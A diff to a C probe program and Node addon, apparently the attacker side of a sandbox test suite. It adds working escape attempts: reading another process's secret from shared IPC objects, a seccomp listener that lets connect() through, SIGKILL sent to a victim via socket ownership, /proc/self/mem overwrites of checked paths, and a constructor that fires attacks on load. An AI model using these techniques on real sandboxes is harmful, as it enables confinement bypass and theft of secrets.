@@ -1,11 +1,15 @@
 // Ways out that only native code has: each attack is a function, called by its name. It is a program
 // (`probe ATTACK SECRET OUTSIDE WORK OTHER_PORT ALLOWED_PORT VICTIM ABSTRACT SOCKET OTHER_LISTEN_PORT`) and an addon, whose
-// arguments are the lines of the file `attack` in the working folder.
+// arguments are the lines of the file `attack` in the working folder; of `attack.now` as soon as it is loaded.
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/audit.h>
+#include <linux/filter.h>
 #include <linux/io_uring.h>
+#include <linux/seccomp.h>
+#include <mqueue.h>
 #include <netinet/in.h>
 #include <netinet/tcp.h>
 #include <pthread.h>
@@ -17,10 +21,16 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/inotify.h>
+#include <sys/ioctl.h>
+#include <sys/ipc.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/msg.h>
+#include <sys/prctl.h>
 #include <sys/ptrace.h>
+#include <sys/sem.h>
 #include <sys/sendfile.h>
+#include <sys/shm.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -417,6 +427,161 @@ static void listen_multipath(void) {
     if (listen(descriptor, 1) == 0) serve(descriptor);
 }
 
+// What processes of a user share by numbers and names that are no files. `keep` is the process outside that has it all.
+struct note { long kind; char text[128]; };
+enum { INDEXES_MAX = 4096 };
+
+static void read_shared_memory(void) {
+    struct shmid_ds state;
+    for (int index = 0; index < INDEXES_MAX; index++) {
+        int id = shmctl(index, SHM_STAT, &state);
+        if (id < 0 || state.shm_cpid != victim) continue;
+        char *text = shmat(id, 0, SHM_RDONLY);
+        if (text != (void *)-1) puts(text);
+    }
+    // The numbers can be guessed, too.
+    for (int id = 0; id < INDEXES_MAX; id++) {
+        char *text = shmat(id, 0, SHM_RDONLY);
+        if (text != (void *)-1) write(1, text, strnlen(text, 128));
+    }
+    fflush(stdout);
+}
+static void read_messages(void) {
+    struct msqid_ds state;
+    struct note note;
+    for (int index = 0; index < INDEXES_MAX; index++) {
+        int id = msgctl(index, MSG_STAT, &state);
+        if (id < 0 || state.msg_lspid != victim) continue;
+        if (msgrcv(id, &note, sizeof note.text, 0, IPC_NOWAIT) > 0) puts(note.text);
+    }
+    fflush(stdout);
+}
+static void remove_semaphore(void) {
+    struct semid_ds state;
+    for (int index = 0; index < INDEXES_MAX; index++) {
+        int id = semctl(index, 0, SEM_STAT, &state);
+        if (id >= 0 && semctl(id, 0, GETPID) == victim) semctl(id, 0, IPC_RMID);
+    }
+}
+static void remove_message_queue(void) { mq_unlink(proc("/escape-%d", victim)); }
+static struct sockaddr_un datagrams_of_victim(void) {
+    struct sockaddr_un to = {.sun_family = AF_UNIX};
+    snprintf(to.sun_path, sizeof to.sun_path, "%s/../datagrams", outside);
+    return to;
+}
+static void datagram_from_pair(void) {
+    int pair[2];
+    struct sockaddr_un to = datagrams_of_victim();
+    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0) sendto(pair[0], "x", 1, 0, (void *)&to, sizeof to);
+}
+static void datagram_from_connected_pair(void) {
+    int pair[2];
+    struct sockaddr_un to = datagrams_of_victim();
+    if (socketpair(AF_UNIX, SOCK_RAW | SOCK_CLOEXEC, 0, pair) == 0 && connect(pair[0], (void *)&to, sizeof to) == 0)
+        write(pair[0], "x", 1);
+}
+
+static int semaphore = -1, queue = -1, shared = -1;
+static void *wait_for_semaphore(void *nothing) {
+    struct sembuf raise = {.sem_op = 1}, lower = {.sem_op = -1}, again = {.sem_op = -1};
+    semop(semaphore, &raise, 1);
+    semop(semaphore, &lower, 1);
+    if (semop(semaphore, &again, 1) == 0 || errno == EIDRM) _exit(3);
+    return nothing;
+}
+/** `probe keep SOCKET`, with the secret in its environment: ends when another process reaches what it has. */
+static void keep(const char *path) {
+    const char *text = getenv("ESCAPE_SECRET");
+    int own = getpid(), alive[2];
+    char *name = proc("/escape-%d", own);
+    struct note note = {.kind = 1};
+    strncpy(note.text, text, sizeof note.text - 1);
+    queue = msgget(IPC_PRIVATE, 0600);
+    msgsnd(queue, &note, sizeof note.text, 0);
+    semaphore = semget(IPC_PRIVATE, 1, 0600);
+    shared = shmget(IPC_PRIVATE, 4096, 0600);
+    char *memory = shmat(shared, 0, 0);
+    if (memory != (void *)-1) strcpy(memory, text);
+    mq_open(name, O_CREAT | O_RDONLY, 0600, (struct mq_attr *)0);
+    struct sockaddr_un here = {.sun_family = AF_UNIX};
+    strncpy(here.sun_path, path, sizeof here.sun_path - 1);
+    int datagrams = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+    bind(datagrams, (void *)&here, sizeof here);
+    // These outlive their process: another one removes them when it has ended.
+    if (pipe(alive) == 0 && fork() == 0) {
+        char byte;
+        close(alive[1]);
+        read(alive[0], &byte, 1);
+        msgctl(queue, IPC_RMID, 0);
+        semctl(semaphore, 0, IPC_RMID);
+        shmctl(shared, IPC_RMID, 0);
+        mq_unlink(name);
+        _exit(0);
+    }
+    close(alive[0]);
+    pthread_t waiting;
+    pthread_create(&waiting, 0, wait_for_semaphore, 0);
+    write(1, "ready\n", 6);
+    for (;;) {
+        char byte;
+        if (recv(datagrams, &byte, 1, 0) > 0) _exit(4);
+        mqd_t again = mq_open(name, O_RDONLY);
+        if (again == (mqd_t)-1) _exit(5);
+        mq_close(again);
+        usleep(10000);
+    }
+}
+
+// Filters of its own: the kernel applies the last one of equal strictness.
+static int own_listener = -1;
+static void *let_through(void *nothing) {
+    for (;;) {
+        struct seccomp_notif call = {0};
+        struct seccomp_notif_resp reply = {.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
+        if (ioctl(own_listener, SECCOMP_IOCTL_NOTIF_RECV, &call) != 0) return nothing;
+        reply.id = call.id;
+        ioctl(own_listener, SECCOMP_IOCTL_NOTIF_SEND, &reply);
+    }
+}
+static void connect_by_own_listener(void) {
+    struct sock_filter code[] = {
+        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+    };
+    struct sock_fprog program = {.len = 4, .filter = code};
+    pthread_t listening;
+    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
+    own_listener = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
+    if (own_listener < 0) return;
+    pthread_create(&listening, 0, let_through, 0);
+    connect_to(socket(AF_INET, SOCK_STREAM, 0), "127.0.0.1", other_port);
+}
+static void signal_by_socket(void) {
+    // The owner of a socket gets its signals: as F_SETOWN, by another call.
+    int pair[2], on = 1, owner = victim;
+    socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
+    fcntl(pair[0], F_SETSIG, SIGKILL);
+    ioctl(pair[0], FIOSETOWN, &owner);
+    ioctl(pair[0], FIOASYNC, &on);
+    write(pair[1], "x", 1);
+}
+static void write_own_memory(void) {
+    // A path that was checked is written over by /proc/self/mem, which ignores what pages may be.
+    static const char allowed[] = "file.txt\0 a constant that is longer than any path of the test: ................................................................................................................................................................................................";
+    int memory = open("/proc/self/mem", O_RDWR);
+    pwrite(memory, secret, strlen(secret) + 1, (off_t)allowed);
+    show_file(allowed);
+}
+static void open_by_tree(void) {
+    int file = syscall(SYS_open_tree, AT_FDCWD, secret, 0);
+    show_file(proc("/proc/self/fd/%d", file));
+}
+static void root_of_thread(void) {
+    show_file(proc("/proc/%d/task/%d/root%s", victim, victim, secret));
+}
+
 static const struct { const char *name; void (*run)(void); } attacks[] = {
 #define A(name) {#name, name}
     A(open_directly), A(open_by_open), A(open_from_folder), A(open_by_openat2), A(open_root_of_self), A(open_path_again),
@@ -431,6 +596,9 @@ static const struct { const char *name; void (*run)(void); } attacks[] = {
     A(connect_port), A(connect_host), A(connect_multipath),
     A(connect_mapped), A(fast_open), A(fast_open_message), A(fast_open_option), A(connect_in_race), A(datagram),
     A(raw_datagram), A(connect_abstract), A(connect_local), A(listen_on_port), A(listen_multipath),
+    A(read_shared_memory), A(read_messages), A(remove_semaphore), A(remove_message_queue), A(datagram_from_pair),
+    A(datagram_from_connected_pair), A(connect_by_own_listener), A(signal_by_socket), A(write_own_memory), A(open_by_tree),
+    A(root_of_thread),
 };
 
 static void attack(char **words) {
@@ -449,17 +617,25 @@ static void attack(char **words) {
 
 int main(int count, char **words) {
     if (count == 11) attack(words + 1);
+    if (count == 3) keep(words[2]);
     return 0;
 }
 
-void *napi_register_module_v1(void *environment, void *exports) {
+static void attack_by_file(const char *name) {
     static char text[8192], *words[10];
-    int file = open("attack", O_RDONLY);
+    int file = open(name, O_RDONLY);
     ssize_t count = read(file, text, sizeof text - 1);
     close(file);
     char *rest = text;
     for (int index = 0; count > 0 && index < 10; index++) words[index] = strsep(&rest, "\n");
     if (words[9]) attack(words);
+}
+
+void *napi_register_module_v1(void *environment, void *exports) {
+    attack_by_file("attack");
     (void)environment;
     return exports;
 }
+
+// What loads a library runs this, whatever it wants from it.
+__attribute__((constructor)) static void loaded(void) { attack_by_file("attack.now"); }
